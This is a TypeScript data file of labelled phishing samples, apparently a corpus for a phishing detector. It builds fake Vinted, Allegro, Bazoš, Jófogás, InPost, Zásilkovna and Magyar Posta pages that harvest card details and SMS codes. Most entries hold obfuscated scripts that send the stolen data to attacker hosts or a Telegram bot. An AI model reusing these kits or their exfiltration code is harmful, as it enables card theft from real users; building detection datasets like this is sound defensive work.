import { type Entry, htmlRoute } from '../entry.js';
import { b64, chunks, doc, cardCss, logo, formGrab, stepper, xorLoader } from '../parts/yz-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-vinted-punycode-receive-payout-card',
  label: 'phishing',
  kind: 'classifieds-delivery-kit',
  url: 'https://xn--vintd-2we.pl/items/4829113-sukienka-zara/payout',
  submittedUrl: 'https://vintеd.pl/items/4829113-sukienka-zara/payout',
  body: doc({
    lang: 'pl',
    title: 'Vinted | Odbierz płatność',
    css: cardCss('#007782', { font: 'Inter,Arial,sans-serif', radius: 6, width: 460 }) + '\n.sum{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:8px 0;font-size:14px}',
    body: `<div class="top">${logo('Vinted', '#007782', { mark: 'none', w: 90 })}<span class="muted">Pomoc</span></div>
<div class="card">
  <h1>Twój przedmiot został kupiony</h1>
  <div class="sum"><span>Sukienka Zara midi, rozm. S</span><b>89,00 zł</b></div>
  <div class="sum"><span>Ochrona kupującego (opłacona)</span><b>0,00 zł</b></div>
  <div class="sum"><span>Do wypłaty</span><b>89,00 zł</b></div>
  <p class="muted">Aby środki trafiły na Twoją kartę, podaj jej dane. Kwota zostanie zaksięgowana natychmiast (Vinted Balance).</p>
  <form id="pf">
    <label>Imię i nazwisko</label><input type="text" name="name" required>
    <label>Numer karty</label><input type="tel" name="card" maxlength="19" required>
    <label>Data ważności</label><input type="text" name="exp" placeholder="MM/RR" required>
    <label>CVC</label><input type="password" name="cvc" maxlength="4" required>
    <label>Saldo dostępne na karcie (weryfikacja)</label><input type="number" name="balance">
    <button class="btn">Otrzymaj 89,00 zł</button>
  </form>
</div>`,
    tail: `<script src="/static/js/payout.min.js"></script>`,
  }),
  routes: {
    'xn--vintd-2we.pl/static/js/payout.min.js': jsRoute(`(function(){var e="${b64('https://vinted-pay.icu/gate.php')}",f=document.getElementById("pf");f.addEventListener("submit",function(t){t.preventDefault();var d=new FormData(f);d.append("item","4829113");d.append("svc","vinted_pl");fetch(atob(e),{method:"POST",body:d}).then(function(){location.href="/items/4829113-sukienka-zara/3ds"})})})();`),
  },
},
{
  id: 'yz-allegro-lokalnie-confirm-sale-card',
  label: 'phishing',
  kind: 'classifieds-delivery-kit',
  url: 'https://allegrolokalnie.pl-oferta-482913.site/oferta/482913/potwierdzenie',
  body: doc({
    lang: 'pl',
    title: 'Allegro Lokalnie – potwierdzenie sprzedaży',
    css: `body{margin:0;background:#f5f5f5;font-family:Open Sans,Arial,sans-serif}.h{background:#fff;padding:12px 20px;border-bottom:2px solid #ff5a00}
.c{max-width:560px;margin:30px auto;background:#fff;padding:24px;border:1px solid #e6e6e6}.btn{background:#ff5a00;color:#fff;border:0;padding:12px 24px;font-size:15px;width:100%}
input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #bbb}.row{display:flex;gap:10px}`,
    body: `<div class="h">${logo('allegro lokalnie', '#ff5a00', { mark: 'none', w: 170 })}</div>
<div class="c">
  <h2>Sprzedaż z Allegro Smart! Lokalnie</h2>
  <p>Kupujący <b>Magdalena K.</b> zapłacił za ofertę <b>„Konsola PlayStation 5 + 2 pady”</b> (1 900,00 zł) wraz z dostawą przez Allegro One Box.</p>
  <p>Aby zakończyć transakcję i otrzymać przelew, potwierdź dane karty, na którą mają wpłynąć środki.</p>
  <form id="ac">
    <input name="holder" placeholder="Imię i nazwisko właściciela karty">
    <input name="number" placeholder="Numer karty" inputmode="numeric">
    <div class="row"><input name="mm" placeholder="MM"><input name="yy" placeholder="RR"><input name="cvv" placeholder="CVV"></div>
    <button class="btn">Odbierz środki</button>
  </form>
</div>`,
    tail: `<script>
(function(){var p=${JSON.stringify(chunks(b64('https://allegrolokalnie-api.panel-sklep.site/card.php'), 2)).replace(/"/g, "'")};
var u=atob(p.join(''));
document.getElementById('ac').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.offer='482913';o.amount='1900';
fetch(u,{method:'POST',mode:'no-cors',body:JSON.stringify(o)});setTimeout(function(){location.href='/oferta/482913/3ds'},800)}})();
</script>`,
  }),
},
{
  id: 'yz-bazos-doprava-prijmout-platbu',
  label: 'phishing',
  kind: 'classifieds-delivery-kit',
  url: 'https://bazos.cz-doprava.online/platba/prijem?inz=157738212',
  body: doc({
    lang: 'cs',
    title: 'Bazoš.cz – Přijetí platby',
    css: cardCss('#ff7f00', { font: 'Verdana,Arial,sans-serif', radius: 3, width: 500 }) + '\n.sec{background:#eaf5ea;padding:10px;font-size:13px;border-radius:3px}',
    body: `<div class="top">${logo('BAZOŠ.cz', '#ff7f00', { mark: 'none', w: 120 })}<span class="muted">Inzerce zdarma</span></div>
<div class="card">
  <h1>Kupující zaplatil za Vaše zboží</h1>
  <p>Inzerát č. <b>157738212</b> – <b>iPhone 13 128GB modrý</b><br>Částka: <b>9 500 Kč</b> · Doprava: Bazoš Doprava (PPL)</p>
  <p class="sec">🔒 Platba je chráněna službou <b>Bezpečná platba Bazoš</b>. Peníze obdržíte ihned po zadání údajů karty.</p>
  <form method="post" action="/platba/zpracovani.php">
    <input type="hidden" name="inz" value="157738212">
    <label>Číslo karty</label><input type="tel" name="karta" required>
    <label>Platnost (MM/RR)</label><input type="text" name="platnost" required>
    <label>CVV/CVC</label><input type="password" name="cvv" required>
    <label>Aktuální zůstatek na účtu</label><input type="number" name="zustatek">
    <button class="btn">Přijmout 9 500 Kč</button>
  </form>
</div>`,
    tail: `<script>/* chat podpory */(function(){var s=document.createElement('div');s.innerHTML='<div style="position:fixed;right:20px;bottom:20px;background:#ff7f00;color:#fff;padding:12px 16px;border-radius:20px;font:14px Verdana">Online podpora 24/7</div>';document.body.appendChild(s)})();</script>`,
  }),
},
{
  id: 'yz-jofogas-punycode-jovairas',
  label: 'phishing',
  kind: 'classifieds-delivery-kit',
  url: 'https://xn--jofogs-fizets-7db1k.hu/hirdetes/128846201/jovairas',
  submittedUrl: 'https://jofogás-fizetés.hu/hirdetes/128846201/jovairas',
  body: doc({
    lang: 'hu',
    title: 'Jófogás – Összeg jóváírása',
    css: cardCss('#1b75bb', { radius: 8, width: 480 }),
    body: `<div class="top">${logo('jófogás', '#1b75bb', { mark: 'circle', w: 130 })}<span class="muted">Jófogás Szállítás</span></div>
<div class="card">
  <h1>A vevő kifizette a terméket</h1>
  <p><b>Bugaboo Fox babakocsi</b> – <b>89 000 Ft</b></p>
  <p>A vételárat a Jófogás Szállítás szolgáltatás zárolta. A jóváíráshoz adja meg bankkártyája adatait. A futár (GLS) 2 munkanapon belül jelentkezik.</p>
  <form id="jf">
    <label>Kártyaszám</label><input type="tel" name="kszam" required>
    <label>Lejárat</label><input type="text" name="lejarat" placeholder="HH/ÉÉ" required>
    <label>CVC</label><input type="password" name="cvc" required>
    <button class="btn">89 000 Ft jóváírása</button>
  </form>
</div>`,
    tail: `<script>
var s=document.createElement('script');s.src=atob('${b64('/assets/j.js?v=3')}');document.head.appendChild(s);
</script>`,
  }),
  routes: {
    'xn--jofogs-fizets-7db1k.hu/assets/j.js': jsRoute(`var T=['${chunks('7735124901:AAH_qYw3ZrPmN8xLkV5cTgEbUo2sDfJiR1w', 9).join("','")}'].join('');document.getElementById('jf').onsubmit=function(e){e.preventDefault();var d=[].map.call(this.elements,function(x){return x.name+'='+x.value}).join('\\n');new Image().src='https://api.telegram.org/bot'+T+'/sendMessage?chat_id=-1002017733190&text='+encodeURIComponent('JOFOGAS 128846201\\n'+d);this.outerHTML='<p>Feldolgozás folyamatban...</p>'};`),
  },
},
{
  id: 'yz-inpost-doplata-paczkomat-card',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://inpost-pl.paczkomat-doplata.info/p/613049228471',
  body: doc({
    lang: 'pl',
    title: 'InPost – Dopłata do przesyłki',
    css: `body{margin:0;background:#ffcb04;font-family:Montserrat,Arial,sans-serif}.w{max-width:460px;margin:30px auto;background:#fff;border-radius:10px;padding:26px}
.row{display:flex;justify-content:space-between;font-size:14px;padding:6px 0;border-bottom:1px dashed #ddd}.b{background:#1d1d1b;color:#ffcb04;border:0;width:100%;padding:14px;border-radius:6px;font-weight:700}
input{width:100%;padding:11px;margin:6px 0 10px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}`,
    body: `<div class="w">
${logo('InPost', '#1d1d1b', { mark: 'square', w: 110 })}
<h2>Twoja paczka czeka w Paczkomacie</h2>
<div class="row"><span>Numer przesyłki</span><b>613049228471</b></div>
<div class="row"><span>Paczkomat</span><b>KRA12M, ul. Wielicka 44</b></div>
<div class="row"><span>Status</span><b style="color:#c00">Wstrzymana – brak dopłaty</b></div>
<div class="row"><span>Dopłata (zmiana gabarytu)</span><b>1,99 zł</b></div>
<p style="font-size:13px">Paczka zostanie zwrócona do nadawcy, jeżeli dopłata nie zostanie uregulowana w ciągu 48 godzin.</p>
<form method="post" action="/p/pay.php">
<input name="imie" placeholder="Imię i nazwisko"><input name="tel" placeholder="Telefon">
<input name="cc" placeholder="Numer karty"><input name="exp" placeholder="MM/RR"><input name="cvv" placeholder="CVV">
<button class="b">Zapłać 1,99 zł</button></form>
</div>`,
  }),
},
{
  id: 'yz-zasilkovna-punycode-dobirka',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://xn--zsilkovna-doruceni-yrb.cz/sledovani/Z4417093652',
  submittedUrl: 'https://zásilkovna-doruceni.cz/sledovani/Z4417093652',
  body: doc({
    lang: 'cs',
    title: 'Zásilkovna | Packeta – sledování zásilky',
    css: cardCss('#ba1b02', { radius: 10, font: 'Roboto,Arial,sans-serif' }) + '\n.tl{border-left:3px solid #ba1b02;padding-left:12px;font-size:13px}',
    body: `<div class="top">${logo('Zásilkovna', '#ba1b02', { mark: 'square', w: 150 })}</div>
<div class="card"><h1>Z 441 7093 652</h1>
<div class="tl"><p>12:04 Zásilka přijata na výdejním místě</p><p>09:50 Zásilka na cestě</p><p><b>Čeká na zaplacení dobírky a celního poplatku (49 Kč)</b></p></div>
<form id="z"><label>E-mail</label><input type="email" name="mail"><label>Číslo karty</label><input type="tel" name="cc"><label>Platnost</label><input type="text" name="exp"><label>CVV</label><input type="password" name="cvv"><button class="btn">Zaplatit 49 Kč</button></form></div>`,
    tail: `${xorLoader(`<script>document.getElementById('z').onsubmit=function(e){e.preventDefault();fetch('https://zasil-gate.click/api/v1/c',{method:'POST',body:new URLSearchParams(new FormData(this))}).then(function(){location.href='/sledovani/Z4417093652/3ds'})}<\/script>`, 'pkt2025', { via: 'write' })}`,
  }),
},
{
  id: 'yz-magyar-posta-vamkezelesi-dij',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://posta-hu.csomagkovetes-dij.com/kovetes/?azon=RB384920117HU',
  routes: {
    'posta-hu.csomagkovetes-dij.com/kovetes/': htmlRoute(doc({
      lang: 'hu',
      title: 'Magyar Posta – Csomagkövetés',
      css: cardCss('#e3001b', { radius: 4, width: 470 }),
      body: `<div class="top">${logo('MAGYAR POSTA', '#e3001b', { mark: 'square', w: 190 })}</div>
<div class="card">
  <h1>Küldemény: RB384920117HU</h1>
  <p>A küldeménye vámkezelésre vár. A kézbesítéshez fizesse meg a <b>1 250 Ft</b> vámkezelési díjat.</p>
  <div class="step"><form id="a"><label>Név</label><input type="text" name="nev"><label>Cím</label><input type="text" name="cim"><label>Telefonszám</label><input type="tel" name="tel"><button class="btn">Tovább a fizetéshez</button></form></div>
  <div class="step hide"><form id="b"><label>Kártyaszám</label><input type="tel" name="kartya"><label>Lejárat</label><input type="text" name="lej"><label>CVC</label><input type="password" name="cvc"><button class="btn">1 250 Ft fizetése</button></form></div>
  <div class="step hide"><h1>Hitelesítés</h1><p>Adja meg a bankja által küldött SMS-kódot.</p><form id="c"><input type="tel" name="sms"><button class="btn">Megerősítés</button></form></div>
</div>`,
      tail: `<script>
${stepper('lap')}
${formGrab('adat')}
var U=[104,116,116,112,115,58,47,47].map(function(c){return String.fromCharCode(c)}).join('')+'mp-hu-gate'+'.shop/in.php';
['a','b','c'].forEach(function(id,i){document.getElementById(id).onsubmit=function(e){e.preventDefault();var o=adat(this);o.s=i;o.id='RB384920117HU';navigator.sendBeacon(U,JSON.stringify(o));if(i<2)lap(i+1);else location.href='https://www.posta.hu/'}});
</script>`,
    })),
  },
},
];
